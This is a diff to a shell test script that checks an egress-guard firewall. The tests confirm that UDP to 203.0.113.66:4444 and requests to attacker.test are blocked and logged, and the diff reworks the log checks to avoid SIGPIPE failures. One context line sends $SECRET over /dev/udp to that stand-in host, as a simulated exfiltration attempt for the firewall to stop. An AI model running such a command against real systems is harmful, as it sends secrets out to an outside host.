@@ -180,10 +180,13 @@ s_udp() { runner "echo udp-$SECRET > /dev/udp/203.0.113.66/4444" >/dev/null 2>&1
 check "UDP to an arbitrary port (203.0.113.66:4444) dropped" s_udp
 
 # ulogd in the egress-guard container reads the rules' NFLOG reports; egress-guard makes them events.
-s_udp_event() { dc logs --no-color egress-guard 2>/dev/null | grep '"kind":"udp"' | grep '"host":"203.0.113.66"' | grep -q '"port":4444'; }
+# The logs go to a file, and every grep in a pipe reads to the end (-c, not -q): a reader that stops at its first
+# match makes the writer die of SIGPIPE, which fails the check under pipefail once the logs outgrow a pipe buffer.
+eg_logs() { dc logs --no-color egress-guard >"$WORK/egress-guard.log" 2>/dev/null; }
+s_udp_event() { eg_logs && [ "$(grep '"kind":"udp"' "$WORK/egress-guard.log" | grep '"host":"203.0.113.66"' | grep -c '"port":4444')" -gt 0 ]; }
 check "the refused UDP datagram is a decision event (kind udp, 203.0.113.66:4444)" s_udp_event
 
-s_events() { dc logs --no-color egress-guard 2>/dev/null | grep '"decision":"blocked"' | grep -q '"host":"attacker.test"'; }
+s_events() { eg_logs && [ "$(grep '"decision":"blocked"' "$WORK/egress-guard.log" | grep -c '"host":"attacker.test"')" -gt 0 ]; }
 check "decision events: blocked attacker.test logged by egress-guard" s_events
 
 s_collector() {
